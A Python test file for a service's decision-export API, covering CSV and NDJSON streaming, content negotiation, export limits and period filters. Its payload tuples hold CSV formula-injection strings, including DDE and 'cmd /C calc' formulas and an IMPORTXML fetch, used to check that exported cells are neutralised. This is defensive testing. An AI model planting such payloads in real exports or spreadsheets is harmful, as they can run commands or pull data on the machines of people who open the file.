"""The whole result as CSV and NDJSON: streamed, and harmless in a spreadsheet."""

import csv
import io
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from itertools import pairwise
from threading import Event
from typing import Any

import httpx
import pytest
from sqlalchemy import Engine

from service.domain.decision import RecordedDecision
from service.domain.keys import Scope
from service.domain.spreadsheets import neutralised
from service.entrypoints.views.cells import CSV_COLUMNS
from service.store.decisions import chunks_of_decisions
from service.store.filters import DecisionFilter
from tests.api import Api, Decision, eventually
from tests.application import EXPORTS, EXPORTS_OF_A_KEY
from tests.builders import request
from tests.problems import hold_problem
from tests.shared import listed

OUR_OWN = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org","Click")',
    "   =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "+49 123 456789",
    '"quoted", and; divided\'',
)
PAYLOADS = (
    *OUR_OWN,
    *(f"{hidden}=1+1" for hidden in ("\t", "\r", "\n", "\0", "a\r\n", '",')),
    *("=cmd|'/C calc'!'A1'", 'DDE("cmd";"/C calc";"!A0")A0', '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")'),
    *listed("csv-injection/payloads.json", "payloads"),
)
HARMLESS = ("-5", "+4.5", "Acme GmbH", "a=b", "'=1+1", "1-2", "x@example.org", "株式会社")
STARTS = (*"=+-@", *"\uff1d\uff0b\uff0d\uff20")


def _would_run(cell: str) -> bool:
    """Whether a spreadsheet that trims a cell would take it for a formula, and not for a number."""
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]*)?", cell):
        return False
    return cell.strip("".join(map(chr, range(33))) + "\u00a0\u3000\u200b\ufeff").startswith(STARTS)


def as_csv(api: Api, **asked: str) -> list[dict[str, str]]:
    answer = api.http.get("/v1/decisions", params=asked, headers={"Accept": "text/csv"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="decisions.csv"'
    assert answer.content.count(b"\r\n") >= 1
    return list(csv.DictReader(io.StringIO(answer.content.decode(), newline=""), strict=True))


def as_ndjson(api: Api, **asked: str) -> list[Decision]:
    answer = api.http.get("/v1/decisions", params=asked, headers={"Accept": "application/x-ndjson"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/x-ndjson"
    return [json.loads(line) for line in answer.content.splitlines()]


@pytest.mark.parametrize("name", [*OUR_OWN, *HARMLESS])
def test_a_cell_that_would_run_is_neutralised_in_csv_and_whole_in_json(api: Api, name: str) -> None:
    account = f"cell-{[*OUR_OWN, *HARMLESS].index(name)}"
    gap = f"{name}\n{name}"
    api.classify(id=account, name=name, region=name, df=12, wrong={"df": gap})

    (row,) = as_csv(api, account_id=account)
    (decision,) = as_ndjson(api, account_id=account)

    assert row["account_name"].removeprefix("'" if name in OUR_OWN and _would_run(name) else "") == name
    assert not any(_would_run(cell) for cell in row.values())
    assert (name in HARMLESS) <= (row["account_name"] == name)
    account_facts, (count,) = decision["facts"]["account"], decision["facts"]["employee_counts"]
    assert (account_facts["name"], account_facts["region"], count["gap"]) == (name, name, gap)
    assert decision == api.get("/v1/decisions", account_id=account)["items"][0]


@pytest.mark.shared
def test_the_known_payloads_never_reach_a_spreadsheet_as_formulas(api: Api) -> None:
    for number, payload in enumerate(PAYLOADS):
        assert not _would_run(neutralised(payload)), payload
        body = request(id=f"payload-{number}", df=12, wrong={"df": payload}, name=payload)
        answer = api.http.post("/v1/classifications", json=body)
        if answer.status_code != 201:
            assert any(ord(character) < 32 for character in payload), "only control characters are refused"
            hold_problem(answer, 422, "invalid_request")
            continue
        (row,) = as_csv(api, account_id=f"payload-{number}")
        assert row["account_name"].removeprefix("'") == payload
        assert not any(_would_run(cell) for cell in row.values())
        assert as_ndjson(api, account_id=f"payload-{number}")[0]["facts"]["account"]["name"] == payload


def test_the_whole_result_is_streamed_beyond_any_page_in_bounded_chunks(fresh_api: Api) -> None:
    items = [request(id=f"acc-{number:04}", df=640) for number in range(1000)]
    for batch in (items, items, items[:250]):
        assert fresh_api.http.post("/v1/classifications/batch", json={"items": batch}).status_code == 200

    rows = as_csv(fresh_api, limit="1", rule="ROUTE-3")
    decisions = as_ndjson(fresh_api)

    assert [row["id"] for row in rows] == [decision["id"] for decision in decisions]
    assert len({decision["id"] for decision in decisions}) == 2250
    assert [decision["id"] for decision in decisions] == sorted((one["id"] for one in decisions), reverse=True)
    assert len(as_csv(fresh_api, account_id="acc-0001")) == 3
    largest = max(len(chunk) for chunk in _chunks(fresh_api))
    assert largest < 2250 * len(json.dumps(decisions[0])) / 1.9


def _chunks(api: Api) -> Iterator[bytes]:
    headers = {"Accept": "application/x-ndjson"}
    with api.http.stream("GET", "/v1/decisions", headers=headers) as answer:
        assert "content-length" not in answer.headers
        yield from answer.iter_raw()


def test_a_row_says_what_the_decision_says(api: Api) -> None:
    decision = api.classify(id="row", name='Acme, "the" GmbH', df=12, zi=700, wrong={"df": "Wrong"})

    (row,) = as_csv(api, account_id="row")

    assert tuple(row) == CSV_COLUMNS
    expected: dict[str, Any] = {name: "" if decision.get(name) is None else decision.get(name) for name in CSV_COLUMNS}
    recorded_at = datetime.fromisoformat(decision["recorded_at"])
    expected |= {
        "recorded_at": f"{recorded_at:%Y-%m-%dT%H:%M:%S.%fZ}",  # as wide in every row
        "account_name": 'Acme, "the" GmbH',
        "leading_employees": "700",
        "missing_facts": ";".join(decision["missing_facts"]),
        "advice": ";".join(notice["code"] for notice in decision["advice"]),
        "actions": ";".join(notice["code"] for notice in decision["actions"]),
        "policy": "fy23",
        "stands": "true",
        "unchanged": "false",
        "leading_range": "",
        "policy_version": str(decision["policy"]["version"]),
    }
    assert row == expected


def test_nothing_found_is_an_empty_table(api: Api) -> None:
    assert as_csv(api, account_id="nobody") == []
    assert as_ndjson(api, account_id="nobody") == []


JSON, CSV, NDJSON = "application/json", "text/csv", "application/x-ndjson"


@pytest.mark.parametrize(
    ("accept", "chosen"),
    [
        (None, JSON),
        ("", JSON),
        ("*/*", JSON),
        ("application/*", JSON),
        ("text/*", CSV),
        ("text/csv", CSV),
        ("TEXT/CSV", CSV),
        ("text/csv; header=present", CSV),
        ("application/x-ndjson", NDJSON),
        ("application/json;q=0.5, text/csv", CSV),
        ("application/json;q=0.9, text/csv;q=0.8", JSON),
        ("text/csv;q=0.3, application/x-ndjson;q=0.7, application/json;q=0.1", NDJSON),
        ("application/json;q=0, */*", CSV),
        ("application/json;q=0, application/x-ndjson;q=0, */*;q=0.1", CSV),
        ("text/html, application/xhtml+xml, */*;q=0.8", JSON),
        ("image/png, text/csv;q=0.001", CSV),
    ],
)
def test_the_caller_chooses_the_representation(api: Api, accept: str | None, chosen: str) -> None:
    api.classify(id="chosen", df=640)
    sent = api.http.build_request("GET", "/v1/decisions?account_id=chosen")
    del sent.headers["Accept"]
    if accept is not None:
        sent.headers["Accept"] = accept

    answer: httpx.Response = api.http.send(sent)

    assert answer.status_code == 200
    assert answer.headers["content-type"].partition(";")[0] == chosen
    assert answer.headers["vary"] == "Accept"


def test_what_is_not_acceptable_is_so_by_what_was_accepted(api: Api) -> None:
    answer = api.http.get("/v1/decisions", headers={"Accept": "text/html"})

    hold_problem(answer, 406, "not_acceptable")
    assert answer.headers["vary"] == "Accept"


def test_a_bad_query_of_a_stream_is_refused_as_a_problem(api: Api) -> None:
    answer = api.http.get("/v1/decisions?team=nobody", headers={"Accept": "text/csv"})

    hold_problem(answer, 422, "invalid_request")


def test_a_few_exports_go_on_at_once_and_more_are_told_to_come_back(
    fresh_api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    api, begun, on_their_way = fresh_api, list[DecisionFilter](), Event()

    def slowly(engine: Engine, wanted: DecisionFilter) -> Iterator[list[RecordedDecision]]:
        chunks = chunks_of_decisions(engine, wanted)
        begun.append(wanted)
        yield next(chunks)
        on_their_way.wait(30)
        yield from chunks

    monkeypatch.setattr("service.entrypoints.api.decisions.chunks_of_decisions", slowly)
    api.classify(id="acc-1")
    other, third = api.key("other", Scope.READ), api.key("third", Scope.READ)

    with ThreadPoolExecutor(EXPORTS) as readers:
        own = [readers.submit(as_ndjson, api) for _ in range(EXPORTS_OF_A_KEY)]
        eventually(lambda: len(begun) == EXPORTS_OF_A_KEY)
        hold_problem(_exported(api), 429, "too_many_exports")
        others = readers.submit(_exported, api, **other)
        eventually(lambda: len(begun) == EXPORTS)
        hold_problem(_exported(api, **third), 429, "too_many_exports")
        assert api.http.get("/v1/decisions").status_code == 200
        on_their_way.set()
        assert [len(each.result()) for each in own] == [1] * EXPORTS_OF_A_KEY
        assert others.result().status_code == 200
    eventually(lambda: _exported(api).status_code == 200)


def _exported(api: Api, **headers: str) -> httpx.Response:
    return api.http.get("/v1/decisions", headers={"Accept": "application/x-ndjson"} | headers)


def test_an_export_of_a_period_has_what_was_recorded_in_it_and_periods_in_a_row_have_all_once(api: Api) -> None:
    edges = ["2020-01-01T00:00:00Z"]
    for number in range(3):
        api.clock.advance(hours=1)
        api.classify(id="of-a-period", df=600 + number)
        edges.append(api.clock.advance(hours=1).isoformat().replace("+00:00", "Z"))
    recorded = [each["id"] for each in reversed(as_ndjson(api, account_id="of-a-period"))]

    periods = [{"recorded_since": since, "recorded_until": until} for since, until in pairwise(edges)]

    for read in (as_ndjson, as_csv):
        found = [[each["id"] for each in read(api, account_id="of-a-period", **period)] for period in periods]
        assert found == [[each] for each in recorded]
